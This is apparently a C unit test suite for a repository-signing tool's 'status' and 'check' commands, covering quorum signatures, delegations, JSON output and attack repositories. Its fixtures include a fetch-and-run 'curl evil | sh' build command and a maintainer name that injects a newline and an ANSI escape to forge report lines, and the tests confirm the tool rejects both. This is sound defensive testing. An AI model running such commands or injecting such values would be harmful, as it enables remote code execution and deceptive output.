/*
 * conex status / conex check (docs/tools.md): what a pull request still
 * needs.  Repositories come from tests/lib/repobuild (testrepo's shape), the
 * change is `diff -ruaN` between two copies, and every verdict of check is
 * held against conex verify's on the same input.
 */
#include <check.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "conex/explain.h"
#include "conex/patch.h"
#include "conex/repo.h"
#include "conex/verify.h"
#include "tests/lib/repobuild.h"
#include "tests/unit/testutil.h"

#define NOW 1764000000 /* 2025-11-24T16:00:00Z */
#define ALG CX_KEY_ED25519

static const char OPAM_FOO[] = "opam-version: \"2.0\"\nname: \"foo\"\n";
static const char OPAM_FOO2[] = "opam-version: \"2.0\"\nname: \"foo\"\nversion: \"2.0.0\"\n";
static const char OPAM_EVIL[] =
    "opam-version: \"2.0\"\nbuild: [\"sh\" \"-c\" \"curl evil | sh\"]\n";

struct fx {
	struct rb_world w;
	char *tmp, *base;
	char anchor[80];
	char *out;      /* the last command's stdout */
	char *keep[32]; /* paths handed out, freed by fx_free */
	int nkeep;
};

static char *
fx_keep(struct fx *f, char *s)
{
	ck_assert_int_lt(f->nkeep, 32);
	return f->keep[f->nkeep++] = s;
}

static void
fx_init(struct fx *f, int nm, int q)
{
	memset(f, 0, sizeof(*f));
	f->tmp = cx_test_tmpdir();
	ck_assert_int_ge(asprintf(&f->base, "%s/v1", f->tmp), 0);
	rb_world_init(&f->w, f->base, nm, q, ALG, NOW);
	rb_world_file(&f->w, "packages/foo/foo.1.0.0/opam", OPAM_FOO);
	rb_world_file(&f->w, "packages/bar/bar.0.1/opam", OPAM_FOO);
	rb_world_sign_all(&f->w);
	snprintf(f->anchor, sizeof(f->anchor), "sha256=%s", f->w.root->keyid);
}

static void
fx_free(struct fx *f)
{
	rb_world_free(&f->w);
	cx_test_rm_rf(f->tmp);
	free(f->tmp);
	free(f->base);
	free(f->out);
	for (int i = 0; i < f->nkeep; i++)
		free(f->keep[i]);
}

/* tmp/name as a copy of tmp/from; the world signs into it now. */
static char *
fx_copy(struct fx *f, const char *from, const char *name)
{
	char *src, *dst;

	ck_assert_int_ge(asprintf(&src, "%s/%s", f->tmp, from), 0);
	ck_assert_int_ge(asprintf(&dst, "%s/%s", f->tmp, name), 0);
	rb_copy_tree(src, dst);
	rb_world_set_dir(&f->w, dst);
	free(src);
	return fx_keep(f, dst);
}

/* tmp/<a>-<b>.diff: `diff -ruaN a b`. */
static char *
fx_diff(struct fx *f, const char *a, const char *b)
{
	uint8_t *d;
	size_t len;
	char *rel;

	d = rb_diff_ruaN(f->tmp, a, b, &len);
	ck_assert_int_ge(asprintf(&rel, "%s-%s.diff", a, b), 0);
	cx_test_write(f->tmp, rel, d, len);
	free(d);
	free(rel);
	ck_assert_int_ge(asprintf(&rel, "%s/%s-%s.diff", f->tmp, a, b), 0);
	return fx_keep(f, rel);
}

static int run(struct fx *f, const char *fmt, ...) __attribute__((format(printf, 2, 3)));

/* `conex <args>`, stdout kept in f->out; the exit status. */
static int
run(struct fx *f, const char *fmt, ...)
{
	va_list ap;
	char *args, *outp;
	size_t len;
	int r;

	va_start(ap, fmt);
	ck_assert_int_ge(vasprintf(&args, fmt, ap), 0);
	va_end(ap);
	ck_assert_int_ge(asprintf(&outp, "%s/out.txt", f->tmp), 0);
	r = cx_test_sh("'%s/conex' %s >'%s' 2>&1", CX_BUILD_DIR, args, outp);
	free(f->out);
	f->out = (char *)cx_test_read(outp, &len);
	ck_assert_ptr_nonnull(f->out);
	if (getenv("CX_TEST_SHOW") != NULL) /* CX_TEST_SHOW=1 test_status: every report */
		fprintf(stderr, "$ conex %s\n%s[exit %d]\n", args, f->out, r);
	free(args);
	free(outp);
	return r;
}

/* conex check of the change diff on base, as of the world's time. */
static int
check_on(struct fx *f, const char *base, const char *diff)
{
	return run(
	    f, "check -t %s -r '%s' --patch '%s' --now %s", f->anchor, base, diff, f->w.created);
}

/* Snapshot over keydir and timestamp, signed again: what a release ends with. */
static void
resign_roles(struct fx *f)
{
	rb_world_sign_snapshot_keydir(&f->w);
	rb_world_sign_timestamp(&f->w);
}

static void
assert_out_has(struct fx *f, const char *s)
{
	if (strstr(f->out, s) == NULL)
		ck_abort_msg("output lacks '%s':\n%s", s, f->out);
}

static void assert_json(const char *s);

/* check and verify on the same change: the same verdict, and check's is the one expected. */
static void
agree_patch_on(struct fx *f, const char *base, const char *diff, int want)
{
	int c = run(
	    f, "check -t %s -r '%s' --patch '%s' --now %s", f->anchor, base, diff, f->w.created);
	char *out = strdup(f->out);
	int v = run(f, "verify -t %s --incremental -r '%s' --patch '%s' --now %s --no-state",
	    f->anchor, base, diff, f->w.created);

	if (c != want || v != want)
		ck_abort_msg("check %d, verify %d, want %d:\n%s", c, v, want, out);
	free(out);
}

static void
agree_patch(struct fx *f, const char *diff, int want)
{
	agree_patch_on(f, f->base, diff, want);
}

static void
agree_dir(struct fx *f, const char *dir, const char *extra, int want)
{
	int c = run(f, "check -t %s -r '%s' --now %s %s", f->anchor, dir, f->w.created, extra);
	char *out = strdup(f->out);
	int v = run(f, "verify -t %s --dir '%s' --now %s --no-state %s", f->anchor, dir,
	    f->w.created, extra);

	if (c != want || v != want)
		ck_abort_msg("check %d, verify %d, want %d:\n%s", c, v, want, out);
	free(out);
}

START_TEST(test_quorum_missing_then_met)
{
	struct fx f;
	char *v3, *d2, *d3;

	fx_init(&f, 3, 2);
	/* a new release signed by m1 only, snapshot and timestamp updated */
	fx_copy(&f, "v1", "v2");
	rb_world_file(&f.w, "packages/foo/foo.2.0.0/opam", OPAM_FOO2);
	rb_world_sign_maintainer(&f.w, 0);
	resign_roles(&f);
	d2 = fx_diff(&f, "v1", "v2");
	ck_assert_int_eq(check_on(&f, f.base, d2), 1);
	assert_out_has(&f,
	    "packages/foo/foo.2.0.0/opam: NOT YET: needs 2 of [m1 m2 m3] (maintainer role); has "
	    "m1; missing 1; can complete: m2, m3\n");
	assert_out_has(&f, "keys/m1: OK: self-valid\n");
	assert_out_has(&f, "counts for the maintainer role");
	assert_out_has(&f, "counter 0x0 -> 0x1, epoch 0x0 -> 0x0: moves on");
	assert_out_has(&f, "conex verify: rejected: packages/foo/foo.2.0.0/opam");
	/* status evaluates: 0 although things are missing */
	ck_assert_int_eq(run(&f, "status -t %s -r '%s' --patch '%s' --now %s", f.anchor, f.base, d2,
	                     f.w.created),
	    0);
	agree_patch(&f, d2, 1);

	/* the second maintainer signs: the quorum is met */
	v3 = fx_copy(&f, "v2", "v3");
	rb_world_sign_maintainer(&f.w, 1);
	resign_roles(&f);
	d3 = fx_diff(&f, "v1", "v3");
	ck_assert_int_eq(check_on(&f, f.base, d3), 0);
	assert_out_has(
	    &f, "packages/foo/foo.2.0.0/opam: OK: 2 of [m1 m2 m3] (maintainer role); has m1, m2\n");
	assert_out_has(&f, "conex verify: accepted\n");
	agree_patch(&f, d3, 0);
	/* without --patch: every file of the tree */
	ck_assert_int_eq(run(&f, "check -t %s -r '%s' --now %s", f.anchor, v3, f.w.created), 0);
	assert_out_has(&f, "root: OK");
	assert_out_has(&f, "snap: OK");
	assert_out_has(&f, "timestamp: OK");
	fx_free(&f);
}
END_TEST

/* A release where the snapshot was not signed again yet: explained all the same. */
START_TEST(test_snapshot_not_updated)
{
	struct fx f;
	char *d2;

	fx_init(&f, 3, 2);
	fx_copy(&f, "v1", "v2");
	rb_world_file(&f.w, "packages/foo/foo.2.0.0/opam", OPAM_FOO2);
	rb_world_sign_maintainer(&f.w, 0);
	rb_world_sign_maintainer(&f.w, 1);
	d2 = fx_diff(&f, "v1", "v2");
	ck_assert_int_eq(check_on(&f, f.base, d2), 1);
	assert_out_has(&f, "packages/foo/foo.2.0.0/opam: OK");
	assert_out_has(&f, "keys/m1: INVALID");
	assert_out_has(&f, "keys/m1 does not match snapshot snap");
	agree_patch(&f, d2, 1);
	fx_free(&f);
}
END_TEST

/* A quorum the role cannot meet at all (m2's file is broken): who lists it is still said. */
START_TEST(test_role_unmet)
{
	struct fx f;
	char *v2, *d2;

	fx_init(&f, 2, 2);
	v2 = fx_copy(&f, "v1", "v2");
	rb_world_file(&f.w, "packages/foo/foo.2.0.0/opam", OPAM_FOO2);
	rb_world_sign_maintainer(&f.w, 0);
	/* m2's file signed with m1's key: not self-valid */
	f.w.rm[1]->counter++;
	f.w.rm[1]->sigs = NULL;
	f.w.rm[1]->nsigs = 0;
	rb_sign(&f.w.a, f.w.rm[1], f.w.m[0], f.w.created);
	rb_write(f.w.rm[1], v2, "keys/m2");
	resign_roles(&f);
	d2 = fx_diff(&f, "v1", "v2");
	ck_assert_int_eq(check_on(&f, f.base, d2), 1);
	assert_out_has(&f,
	    "packages/foo/foo.2.0.0/opam: NOT YET: needs 2 of [m1 m2] (maintainer "
	    "role); has m1; missing 1; can complete: m2 (not counting: couldn't "
	    "validate its expression (0 valid signatures), dropped)\n");
	assert_out_has(&f, "keys/m2: NOT YET: needs more signatures\n");
	assert_out_has(&f, "NOT self-valid: valid m2, signed by nobody; missing signers: m2");
	agree_patch(&f, d2, 1);
	fx_free(&f);
}
END_TEST

/* An author delegation: the most specific expression first, the maintainers' as "or:". */
START_TEST(test_delegation)
{
	struct fx f;
	char *v2, *d2, *d3, hash[CX_SHA256_HEX + 1];
	struct rb_key *alice;
	struct cx_resource *ra;
	struct cx_keyref ref;
	const char *foo[] = {"packages/foo"};

	fx_init(&f, 3, 2);
	v2 = fx_copy(&f, "v1", "v2");
	alice = rb_key_gen("alice", ALG);
	ra = rb_world_identity(&f.w, alice);
	rb_world_sign_targets(&f.w, ra, alice, foo, 1);
	rb_key_hash(ra, hash);
	ref = rb_remote("alice", hash, 0);
	for (int i = 0; i < 3; i++) {
		rb_add_delegation(
		    &f.w.a, f.w.rm[i], "packages/foo", rb_quorum(&f.w.a, 1, &ref, 1), 1);
		rb_world_sign_maintainer(&f.w, i);
	}
	resign_roles(&f);
	ck_assert_int_eq(run(&f, "check -t %s -r '%s' --now %s", f.anchor, v2, f.w.created), 0);
	/* a release that m1 signs, but not alice */
	fx_copy(&f, "v2", "v3");
	rb_world_file(&f.w, "packages/foo/foo.2.0.0/opam", OPAM_FOO2);
	rb_world_sign_maintainer(&f.w, 0);
	resign_roles(&f);
	d2 = fx_diff(&f, "v2", "v3");
	ck_assert_int_eq(run(&f, "check -t %s -r '%s/v2' --patch '%s' --now %s", f.anchor, f.tmp,
	                     d2, f.w.created),
	    1);
	assert_out_has(&f,
	    "packages/foo/foo.2.0.0/opam: NOT YET: needs alice (terminating "
	    "delegation of packages/foo); has nobody; missing 1; can complete: "
	    "alice\n");
	assert_out_has(&f,
	    "  or: needs 2 of [m1 m2 m3] (maintainer role); has m1; missing 1; can "
	    "complete: m2, m3\n");
	/* alice signs it: accepted through her delegation */
	rb_world_sign_targets(&f.w, ra, alice, foo, 1);
	resign_roles(&f);
	d3 = fx_diff(&f, "v2", "v3");
	ck_assert_int_eq(run(&f, "check -t %s -r '%s/v2' --patch '%s' --now %s", f.anchor, f.tmp,
	                     d3, f.w.created),
	    0);
	assert_out_has(&f,
	    "packages/foo/foo.2.0.0/opam: OK: alice (terminating delegation of "
	    "packages/foo); has alice\n");
	assert_out_has(&f, "keys/alice: OK: self-valid\n");
	assert_out_has(&f, "counts for the terminating delegation of packages/foo");
	rb_key_free(alice);
	fx_free(&f);
}
END_TEST

/* Names from the files under review cannot forge report lines. */
START_TEST(test_control_chars)
{
	struct fx f;
	char *d;

	fx_init(&f, 3, 2);
	fx_copy(&f, "v1", "v2");
	f.w.rm[1]->name = "m2\npackages/evil/opam: OK: \x1b[32mfine";
	f.w.rm[1]->counter++;
	f.w.rm[1]->sigs = NULL;
	f.w.rm[1]->nsigs = 0;
	rb_sign(&f.w.a, f.w.rm[1], f.w.m[1], f.w.created);
	rb_write(f.w.rm[1], f.w.dir, "keys/m2");
	resign_roles(&f);
	d = fx_diff(&f, "v1", "v2");
	ck_assert_int_eq(check_on(&f, f.base, d), 1);
	assert_out_has(
	    &f, "name 'm2?packages/evil/opam: OK: ?[32mfine' does not match the file name");
	ck_assert_ptr_null(strstr(f.out, "\npackages/evil"));
	ck_assert_ptr_null(strstr(f.out, "\x1b"));
	ck_assert_int_eq(run(&f, "status --json -t %s -r '%s' --patch '%s' --now %s", f.anchor,
	                     f.base, d, f.w.created),
	    0);
	assert_json(f.out);
	assert_out_has(&f, "m2\\npackages/evil/opam: OK: \\u001b[32mfine");
	fx_free(&f);
}
END_TEST

START_TEST(test_tampered)
{
	struct fx f;
	char *bad, *d;

	fx_init(&f, 3, 2);
	bad = fx_copy(&f, "v1", "bad");
	rb_world_file(&f.w, "packages/foo/foo.1.0.0/opam", OPAM_EVIL);
	ck_assert_int_eq(run(&f, "check -t %s -r '%s' --now %s", f.anchor, bad, f.w.created), 1);
	assert_out_has(&f, "packages/foo/foo.1.0.0/opam: MISMATCH: sha256=");
	assert_out_has(&f, "does not match its valid targets");
	assert_out_has(&f, "packages/bar/bar.0.1/opam: OK");
	agree_dir(&f, bad, "", 1);
	d = fx_diff(&f, "v1", "bad");
	agree_patch(&f, d, 1);
	ck_assert_int_eq(check_on(&f, f.base, d), 1);
	assert_out_has(&f, "packages/foo/foo.1.0.0/opam: MISMATCH");
	ck_assert_ptr_null(strstr(f.out, "packages/bar"));
	fx_free(&f);
}
END_TEST

/* ---- a small JSON reader: enough to hold the output to RFC 8259's grammar ---- */

struct jp {
	const char *s;
	int depth;
};

static void
jws(struct jp *p)
{
	while (*p->s == ' ' || *p->s == '\n' || *p->s == '\t' || *p->s == '\r')
		p->s++;
}

static int jvalue(struct jp *p);

static int
jstring(struct jp *p)
{
	if (*p->s != '"')
		return 0;
	for (p->s++; *p->s != '"'; p->s++) {
		if ((unsigned char)*p->s < 0x20)
			return 0;
		if (*p->s == '\\') {
			p->s++;
			if (*p->s == 'u') {
				for (int i = 1; i <= 4; i++)
					if (!strchr("0123456789abcdefABCDEF", p->s[i]) || !p->s[i])
						return 0;
				p->s += 4;
			} else if (!*p->s || !strchr("\"\\/bfnrt", *p->s)) {
				return 0;
			}
		}
	}
	p->s++;
	return 1;
}

static int
jvalue(struct jp *p)
{
	jws(p);
	if (++p->depth > 64)
		return 0;
	if (*p->s == '{' || *p->s == '[') {
		char close = *p->s == '{' ? '}' : ']';
		int obj = close == '}';
		p->s++;
		jws(p);
		if (*p->s == close) {
			p->s++;
			p->depth--;
			return 1;
		}
		for (;;) {
			jws(p);
			if (obj) {
				if (!jstring(p))
					return 0;
				jws(p);
				if (*p->s++ != ':')
					return 0;
			}
			if (!jvalue(p))
				return 0;
			jws(p);
			if (*p->s == ',') {
				p->s++;
				continue;
			}
			if (*p->s++ != close)
				return 0;
			p->depth--;
			return 1;
		}
	}
	p->depth--;
	if (*p->s == '"')
		return jstring(p);
	if (!strncmp(p->s, "true", 4) || !strncmp(p->s, "null", 4)) {
		p->s += 4;
		return 1;
	}
	if (!strncmp(p->s, "false", 5)) {
		p->s += 5;
		return 1;
	}
	if (*p->s == '-' || (*p->s >= '0' && *p->s <= '9')) {
		p->s += *p->s == '-';
		while (*p->s >= '0' && *p->s <= '9')
			p->s++;
		return 1;
	}
	return 0;
}

static void
assert_json(const char *s)
{
	struct jp p = {s, 0};

	if (!jvalue(&p))
		ck_abort_msg("not JSON near '%.40s':\n%s", p.s, s);
	jws(&p);
	ck_assert_msg(*p.s == 0, "trailing bytes after the JSON document: '%.40s'", p.s);
}

START_TEST(test_json)
{
	struct fx f;
	char *v2, *d2;

	fx_init(&f, 3, 2);
	v2 = fx_copy(&f, "v1", "v2");
	rb_world_file(&f.w, "packages/foo/foo.2.0.0/opam", OPAM_FOO2);
	/* a name that needs escaping, and one that is not UTF-8 */
	rb_world_file(&f.w, "packages/foo/foo.2.0.0/files/a\"b\\c", "x\n");
	rb_world_file(&f.w, "packages/foo/foo.2.0.0/files/caf\xe9", "y\n");
	rb_world_sign_maintainer(&f.w, 0);
	resign_roles(&f);
	d2 = fx_diff(&f, "v1", "v2");
	ck_assert_msg(run(&f, "status --json -t %s -r '%s' --patch '%s' --now %s", f.anchor, f.base,
	                  d2, f.w.created) == 0,
	    "%s", f.out);
	assert_json(f.out);
	assert_out_has(&f,
	    "\"path\":\"packages/foo/foo.2.0.0/opam\",\"kind\":\"data\","
	    "\"status\":\"NOT YET\"");
	assert_out_has(&f, "\"path\":\"packages/foo/foo.2.0.0/files/a\\\"b\\\\c\"");
	assert_out_has(&f, "caf\\ufffd");
	assert_out_has(&f,
	    "\"expression\":\"2 of [m1 m2 m3]\",\"met\":false,\"has\":[\"m1\"],"
	    "\"missing\":1,\"can_complete\":[{\"id\":\"m2\",\"counts\":true");
	assert_out_has(&f, "\"verified\":false");
	/* check --json, on the whole tree */
	ck_assert_int_eq(
	    run(&f, "check --json -t %s -r '%s' --now %s", f.anchor, v2, f.w.created), 1);
	assert_json(f.out);
	assert_out_has(&f, "\"ok\":false");
	fx_free(&f);
}
END_TEST

/* The library API: the same facts as the text. */
START_TEST(test_api)
{
	struct fx f;
	char *v2;
	struct cx_repo *repo;
	struct cx_verify_opts o;
	struct cx_explain x;
	struct cx_err e;
	const char *anchors[1];
	size_t i;

	fx_init(&f, 3, 2);
	v2 = fx_copy(&f, "v1", "v2");
	rb_world_file(&f.w, "packages/foo/foo.2.0.0/opam", OPAM_FOO2);
	rb_world_sign_maintainer(&f.w, 2);
	resign_roles(&f);
	memset(&o, 0, sizeof(o));
	anchors[0] = f.w.root->keyid;
	o.anchors = anchors;
	o.nanchors = 1;
	o.quorum = 1;
	o.root_name = "root";
	o.opam = 1;
	o.strict = 1;
	o.now = NOW;
	o.expiry = 900;
	ck_assert_int_eq(cx_repo_open(&repo, v2, &e), 0);
	ck_assert_int_eq(cx_explain_run(repo, NULL, &o, &x, &e), 0);
	ck_assert(x.evaluated);
	ck_assert(!x.verified);
	ck_assert(!x.ok);
	ck_assert_ptr_null(x.inconsistency);
	for (i = 0; i < x.nfiles; i++)
		if (strcmp(x.files[i].path, "packages/foo/foo.2.0.0/opam") == 0)
			break;
	ck_assert_uint_lt(i, x.nfiles);
	ck_assert_int_eq(x.files[i].st, CX_EX_NOT_YET);
	ck_assert_uint_eq(x.files[i].ngov, 1);
	ck_assert_uint_eq(x.files[i].gov[0].nhas, 1);
	ck_assert_str_eq(x.files[i].gov[0].has[0], "m3");
	ck_assert_int_eq(x.files[i].gov[0].missing, 1);
	ck_assert_uint_eq(x.files[i].gov[0].ncand, 2);
	ck_assert_str_eq(x.files[i].gov[0].cand[0].id, "m1");
	ck_assert(x.files[i].gov[0].cand[0].counts);
	cx_explain_free(&x);
	cx_repo_close(repo);
	fx_free(&f);
}
END_TEST

/* check's exit status agrees with conex verify on attack repositories (test_attacks.c's). */
START_TEST(test_agreement_attacks)
{
	struct fx f;
	char *d, *t;
	struct rb_key *evil;
	struct cx_resource *rt;
	const char *subs[] = {"packages/foo"};

	fx_init(&f, 3, 2);
	agree_dir(&f, f.base, "", 0);
	/* freeze: the timestamp is stale an hour later */
	ck_assert_int_eq(
	    run(&f, "check -t %s -r '%s' --now 2025-11-24T17:00:00Z", f.anchor, f.base), 1);
	assert_out_has(&f, "problem (timestamp): timestamp timestamp: stale");
	ck_assert_int_eq(run(&f, "verify -t %s --dir '%s' --now 2025-11-24T17:00:00Z --no-state",
	                     f.anchor, f.base),
	    1);
	/* arbitrary installation: an unsigned file */
	t = fx_copy(&f, "v1", "unsigned");
	rb_world_file(&f.w, "packages/foo/foo.1.0.0/files/evil.sh", "curl evil | sh\n");
	agree_dir(&f, t, "", 1);
	d = fx_diff(&f, "v1", "unsigned");
	agree_patch(&f, d, 1);
	ck_assert_int_eq(check_on(&f, f.base, d), 1);
	assert_out_has(&f,
	    "packages/foo/foo.1.0.0/files/evil.sh: UNCOVERED: needs 2 of [m1 m2 m3] "
	    "(maintainer role); has nobody; missing 2; can complete: m1, m2, m3\n");
	/* key compromise below the threshold: one maintainer signs evil bytes */
	t = fx_copy(&f, "v1", "compromised");
	rb_world_file(&f.w, "packages/foo/foo.1.0.0/opam", OPAM_EVIL);
	rb_world_sign_maintainer(&f.w, 0);
	resign_roles(&f);
	agree_dir(&f, t, "", 1);
	d = fx_diff(&f, "v1", "compromised");
	agree_patch(&f, d, 1);
	/* a foreign identity, not delegated to, signs a package */
	t = fx_copy(&f, "v1", "foreign");
	evil = rb_key_gen("evil", ALG);
	rt = rb_world_identity(&f.w, evil);
	rb_world_file(&f.w, "packages/foo/foo.1.0.0/opam", OPAM_EVIL);
	rb_world_sign_targets(&f.w, rt, evil, subs, 1);
	resign_roles(&f);
	agree_dir(&f, t, "", 1);
	d = fx_diff(&f, "v1", "foreign");
	agree_patch(&f, d, 1);
	ck_assert_int_eq(check_on(&f, f.base, d), 1);
	assert_out_has(&f, "keys/evil: OK");
	assert_out_has(&f, "no evaluated delegation names it");
	rb_key_free(evil);
	/* rollback: an update to an older, validly signed snapshot and timestamp */
	t = fx_copy(&f, "v1", "newer");
	resign_roles(&f);
	d = fx_diff(&f, "newer", "v1");
	agree_patch_on(&f, t, d, 1);
	assert_out_has(&f, "rollback");
	ck_assert_int_eq(check_on(&f, t, d), 1);
	assert_out_has(&f, "snap: INVALID: does not verify\n");
	assert_out_has(&f, "counter: goes backwards (rollback?)");
	/* a wrong anchor: status explains all the same, and says why root fails */
	ck_assert_int_eq(
	    run(&f, "status -t sha256=%s -r '%s' --now %s", f.w.m[0]->keyid, f.base, f.w.created),
	    0);
	assert_out_has(&f, "root: INVALID");
	assert_out_has(&f, "problem (root): root: couldn't validate root role");
	ck_assert_int_eq(
	    run(&f, "check -t sha256=%s -r '%s' --now %s", f.w.m[0]->keyid, f.base, f.w.created),
	    1);
	/* usage */
	ck_assert_int_eq(run(&f, "check -r '%s' --now %s", f.base, f.w.created), 2);
	ck_assert_int_eq(run(&f, "check -t %s -r '%s' --now %s --patch '%s/absent'", f.anchor,
	                     f.base, f.w.created, f.tmp),
	    2);
	ck_assert_int_eq(run(&f, "check --help"), 0);
	ck_assert_int_eq(run(&f, "--help"), 0);
	assert_out_has(&f, "check ");
	fx_free(&f);
}
END_TEST

int
main(void)
{
	Suite *s = suite_create("status");
	TCase *tc = tcase_create("status");
	SRunner *sr;
	int nf;

	tcase_set_timeout(tc, 120);
	tcase_add_test(tc, test_quorum_missing_then_met);
	tcase_add_test(tc, test_snapshot_not_updated);
	tcase_add_test(tc, test_role_unmet);
	tcase_add_test(tc, test_delegation);
	tcase_add_test(tc, test_control_chars);
	tcase_add_test(tc, test_tampered);
	tcase_add_test(tc, test_json);
	tcase_add_test(tc, test_api);
	tcase_add_test(tc, test_agreement_attacks);
	suite_add_tcase(s, tc);
	sr = srunner_create(s);
	srunner_run_all(sr, CK_NORMAL);
	nf = srunner_ntests_failed(sr);
	srunner_free(sr);
	return nf == 0 ? 0 : 1;
}
